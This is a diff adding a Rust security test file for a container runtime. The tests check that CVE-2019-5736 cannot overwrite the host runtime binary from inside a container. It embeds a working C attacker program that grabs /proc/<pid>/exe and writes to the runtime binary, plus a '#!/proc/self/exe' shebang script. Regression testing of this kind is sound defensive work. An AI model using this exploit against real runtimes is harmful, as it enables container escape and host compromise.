@@ -1,0 +1,338 @@
+//! Issue 12, what a hostile tenant can do through `exec` and the process
+//! setup: CVE-2019-5736 through `#!/proc/self/exe` (exec and create), ids
+//! that would leave the process root, the tenant's /etc/passwd read on the
+//! host, and the terminal (owner, consoleSize, ONLCR). Run as root.
+//!
+//! The CVE tests attack a COPY of the runtime binary, run as the runtime,
+//! and assert the copy is unchanged. `VESSEL_TEST_RUNTIME=/usr/sbin/runc
+//! cargo test --test hostile_exec` runs the same tests against runc.
+
+mod common;
+
+use common::*;
+use serde_json::json;
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output, Stdio};
+use std::time::{Duration, Instant};
+
+const T: Duration = Duration::from_secs(30);
+
+fn skip() -> bool {
+    skip_unless_root("hostile_exec")
+}
+
+/// A runtime whose binary is a private copy of the one under test.
+struct CopiedRuntime {
+    rt: Runtime,
+    dir: PathBuf,
+    bin: PathBuf,
+}
+
+impl CopiedRuntime {
+    fn new() -> CopiedRuntime {
+        let dir = scratch_dir().join(unique_id("rtcopy"));
+        fs::create_dir_all(&dir).unwrap();
+        let bin = dir.join("runtime");
+        fs::copy(runtime_bin(), &bin).unwrap();
+        CopiedRuntime {
+            rt: Runtime::new(),
+            dir,
+            bin,
+        }
+    }
+
+    fn cmd(&self, args: &[&str]) -> Command {
+        let mut c = Command::new(&self.bin);
+        c.arg("--root")
+            .arg(&self.rt.root)
+            .arg("--log")
+            .arg(&self.rt.log)
+            .args(args)
+            .stdin(Stdio::null());
+        c
+    }
+
+    fn run(&self, args: &[&str]) -> Output {
+        run_detached_io(self.cmd(args), T)
+    }
+
+    fn ok(&self, args: &[&str]) -> String {
+        let out = self.run(args);
+        assert!(
+            out.status.success(),
+            "{args:?}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        String::from_utf8_lossy(&out.stdout).into_owned()
+    }
+}
+
+impl Drop for CopiedRuntime {
+    fn drop(&mut self) {
+        if let Ok(entries) = fs::read_dir(&self.rt.root) {
+            for e in entries.flatten() {
+                let id = e.file_name().to_string_lossy().into_owned();
+                let _ = self.run(&["delete", "-f", &id]);
+            }
+        }
+        let _ = fs::remove_dir_all(&self.dir);
+    }
+}
+
+/// The attacker, a static C program: find a process of the container that
+/// runs something other than busybox or itself (the target pid from
+/// /tmp/target.pid when that file appears, otherwise a scan of /proc), hold
+/// its /proc/<pid>/exe with O_PATH, stop it, and once the exec is over,
+/// reopen the handle through /proc/self/fd/N for appending and write.
+const ATTACKER: &str = r#"
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+
+static double now(void) {
+    struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t);
+    return t.tv_sec + t.tv_nsec / 1e9;
+}
+
+/* Try one pid: 1 when caught (fd held), 0 otherwise. */
+static int grab(int pid, int *fd_out, char *target, size_t tlen) {
+    char p[64];
+    snprintf(p, sizeof p, "/proc/%d/exe", pid);
+    int fd = open(p, O_PATH | O_CLOEXEC);
+    if (fd < 0) return 0;
+    ssize_t n = readlink(p, target, tlen - 1);
+    if (n <= 0) { close(fd); return 0; }
+    target[n] = 0;
+    if (strstr(target, "busybox") || strcmp(target, "/attacker") == 0) { close(fd); return 0; }
+    kill(pid, SIGSTOP);
+    *fd_out = fd;
+    return 1;
+}
+
+int main(void) {
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    double end = now() + 60;
+    int fd = -1, pid = -1;
+    char target[4096];
+    while (fd < 0 && now() < end) {
+        FILE *f = fopen("/tmp/target.pid", "r");
+        if (f) {
+            int want = -1;
+            int got = fscanf(f, "%d", &want);
+            fclose(f);
+            if (got != 1) continue;
+            /* Spin on open alone: it fails (EACCES) while the process is not
+               dumpable, and ENOENT once it is gone. */
+            char p[64];
+            snprintf(p, sizeof p, "/proc/%d/exe", want);
+            for (;;) {
+                int o = open(p, O_PATH | O_CLOEXEC);
+                if (o >= 0) {
+                    kill(want, SIGSTOP);
+                    close(o);
+                    if (grab(want, &fd, target, sizeof target)) pid = want;
+                    else kill(want, SIGCONT);
+                    break;
+                }
+                if (errno == ENOENT || errno == ESRCH || now() > end) break;
+            }
+            if (fd < 0) { printf("NOTFOUND\n"); return 1; }
+            break;
+        }
+        DIR *d = opendir("/proc");
+        struct dirent *e;
+        while (d && fd < 0 && (e = readdir(d))) {
+            int q = atoi(e->d_name);
+            if (q <= 0 || q == getpid()) continue;
+            if (grab(q, &fd, target, sizeof target)) pid = q;
+        }
+        if (d) closedir(d);
+    }
+    if (fd < 0) { printf("NOTFOUND\n"); return 1; }
+    printf("FOUND %d %s\n", pid, target);
+    /* Let it go: the write below needs the exec to be over (ETXTBSY). */
+    kill(pid, SIGKILL);
+    kill(pid, SIGCONT);
+    char self[64];
+    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
+    double until = now() + 20;
+    int last = 0;
+    while (now() < until) {
+        int w = open(self, O_WRONLY | O_APPEND | O_CLOEXEC);
+        if (w < 0) {
+            last = errno;
+            usleep(2000);
+            continue;
+        }
+        ssize_t k = write(w, "PWNED-BY-TENANT", 15);
+        int we = errno;
+        close(w);
+        if (k == 15) { printf("OVERWRITTEN\n"); return 0; }
+        printf("WRITE-REFUSED errno %d\n", we);
+        return 0;
+    }
+    printf("OPEN-REFUSED errno %d\n", last);
+    return 0;
+}
+"#;
+
+/// Compile the attacker statically into `rootfs/attacker`.
+fn install_attacker(rootfs: &Path) {
+    let src = rootfs.join("attacker.c");
+    fs::write(&src, ATTACKER).unwrap();
+    let out = Command::new("gcc")
+        .args(["-static", "-O1", "-o"])
+        .arg(rootfs.join("attacker"))
+        .arg(&src)
+        .output()
+        .expect("run gcc");
+    assert!(
+        out.status.success(),
+        "gcc: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let _ = fs::remove_file(&src);
+}
+
+/// `/bin/evil`: a script whose interpreter is the runtime itself.
+fn install_evil(rootfs: &Path) {
+    let p = rootfs.join("bin/evil");
+    fs::write(&p, "#!/proc/self/exe\n").unwrap();
+    fs::set_permissions(&p, fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+fn wait_log(path: &Path, limit: Duration) -> String {
+    let start = Instant::now();
+    loop {
+        let s = fs::read_to_string(path).unwrap_or_default();
+        let done = s.contains("OVERWRITTEN") || s.contains("REFUSED") || s.contains("NOTFOUND");
+        if done || start.elapsed() > limit {
+            return s;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+/// Item 1: `exec C /bin/evil` with `#!/proc/self/exe` must not hand the
+/// container a writable handle on the runtime binary.
+#[test]
+fn exec_of_proc_self_exe_script_cannot_overwrite_the_runtime() {
+    if skip() {
+        return;
+    }
+    let crt = CopiedRuntime::new();
+    let before = fs::read(&crt.bin).unwrap();
+    let b = Bundle::new(&["sh", "-c", "/attacker > /tmp/attack.log 2>&1; sleep 1000"]);
+    install_attacker(&b.rootfs());
+    install_evil(&b.rootfs());
+    let id = unique_id("cve5736x");
+    crt.ok(&["run", "-d", "--bundle", b.dir.to_str().unwrap(), &id]);
+    let log = b.rootfs().join("tmp/attack.log");
+    let start = Instant::now();
+    let mut execs = 0;
+    // Each exec re-executes the runtime in the container for a moment; the
+    // attacker scans /proc until it catches one.
+    while !fs::read_to_string(&log)
+        .unwrap_or_default()
+        .contains("FOUND ")
+        && start.elapsed() < Duration::from_secs(50)
+    {
+        let _ = crt.run(&["exec", "-d", &id, "/bin/evil"]);
+        execs += 1;
+    }
+    let text = wait_log(&log, T);
+    let after = fs::read(&crt.bin).unwrap();
+    let _ = crt.run(&["delete", "-f", &id]);
+    assert!(
+        text.contains("FOUND "),
+        "the attacker never caught the re-executed runtime in {execs} execs, \
+         the test proved nothing: {text:?}"
+    );
+    assert!(
+        after == before,
+        "the runtime binary on the host was modified from the container \
+         ({} -> {} bytes): {text}",
+        before.len(),
+        after.len()
+    );
+    assert!(!text.contains("OVERWRITTEN"), "{text}");
+    assert!(
+        !text.contains(crt.dir.to_str().unwrap()),
+        "the container saw the host binary's path: {text}"
+    );
+}
+
+/// Item 1, create path: process.args[0] is the `#!/proc/self/exe` script,
+/// so the container's init itself re-executes the runtime.
+#[test]
+fn init_of_proc_self_exe_script_cannot_overwrite_the_runtime() {
+    if skip() {
+        return;
+    }
+    let crt = CopiedRuntime::new();
+    let before = fs::read(&crt.bin).unwrap();
+    // No pid namespace: the init may die while the attacker (an exec'd
+    // process) goes on, and the pid in state is the one it sees.
+    let mut b = Bundle::new(&["/bin/evil"]);
+    let ns: Vec<_> = b.spec["linux"]["namespaces"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|n| n["type"] != "pid")
+        .cloned()
+        .collect();
+    b.spec["linux"]["namespaces"] = json!(ns);
+    b.write();
+    install_attacker(&b.rootfs());
+    install_evil(&b.rootfs());
+    // The init runs the runtime for a moment only: a loaded machine may
+    // not schedule the attacker in that window, so try a few containers.
+    let log = b.rootfs().join("tmp/attack.log");
+    for attempt in 0..10 {
+        let _ = fs::remove_file(&log);
+        let _ = fs::remove_file(b.rootfs().join("tmp/target.pid"));
+        let id = unique_id("cve5736c");
+        crt.ok(&["create", "--bundle", b.dir.to_str().unwrap(), &id]);
+        let state: serde_json::Value = serde_json::from_str(&crt.ok(&["state", &id])).unwrap();
+        let pid = state["pid"].as_i64().unwrap();
+        crt.ok(&[
+            "exec",
+            "-d",
+            &id,
+            "sh",
+            "-c",
+            "/attacker > /tmp/attack.log 2>&1",
+        ]);
+        fs::write(b.rootfs().join("tmp/target.pid"), pid.to_string()).unwrap();
+        std::thread::sleep(Duration::from_millis(200));
+        let _ = crt.run(&["start", &id]);
+        let text = wait_log(&log, T);
+        let _ = crt.run(&["delete", "-f", &id]);
+        if text.contains("FOUND ") || attempt == 9 {
+            break;
+        }
+    }
+    let text = fs::read_to_string(&log).unwrap_or_default();
+    let after = fs::read(&crt.bin).unwrap();
+    assert!(
+        text.contains("FOUND "),
+        "the attacker never caught the init, the test proved nothing: {text:?}"
+    );
+    assert!(
+        after == before,
+        "the runtime binary on the host was modified from the container \
+         ({} -> {} bytes): {text}",
+        before.len(),
+        after.len()
+    );
+    assert!(!text.contains("OVERWRITTEN"), "{text}");
+}
